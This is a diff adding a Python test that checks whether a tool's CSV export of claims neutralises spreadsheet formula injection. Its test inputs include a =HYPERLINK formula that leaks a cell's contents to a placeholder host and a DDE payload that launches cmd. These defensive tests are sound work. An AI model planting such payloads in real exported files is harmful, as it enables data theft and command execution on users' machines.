@@ -239,6 +239,27 @@ def test_claims_are_filtered(standoff: Command, case: Path) -> None:
     assert standoff("claims", str(case), "--csv", "--json", code=2)
 
 
+def test_a_table_for_spreadsheets_holds_no_formulas_and_its_numbers_stay(standoff: Command, case: Path) -> None:
+    claims = [json.loads(line) for line in (case / "claims.jsonl").read_text().splitlines()]
+    notes = [
+        '=HYPERLINK("https://x.invalid?"&A1)',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1)",
+        " \t=1",
+        "＝1",
+        "-5.5",
+        "plain - text",
+    ]
+    told = [{**claims[1], "id": f"{claims[1]['id']}-{n}", "note": note, "value": -3 - n, "comparator": "exact"}
+            for n, note in enumerate(notes)]  # fmt: skip
+    (case / "claims.jsonl").write_text("".join(f"{json.dumps(claim)}\n" for claim in [*claims, *told]))
+    rows = list(csv.DictReader(io.StringIO(standoff("claims", str(case), "--csv").stdout)))[3:]
+    assert [row["note"] for row in rows] == [*(f"'{note}" for note in notes[:6]), *notes[6:]]
+    assert [float(row["value"]) for row in rows] == [-3.0 - n for n in range(len(notes))]
+    assert rows[0]["speaker"] == "General Staff of Northland"
+
+
 def test_a_filter_that_no_claim_knows_is_refused(standoff: Command, case: Path) -> None:
     said = standoff("claims", str(case), "--subject", "XXX", "--side", "nort", code=1).stderr
     assert "no claim has the subject `XXX`" in said and "allowed: " in said and "did you mean `north`?" in said
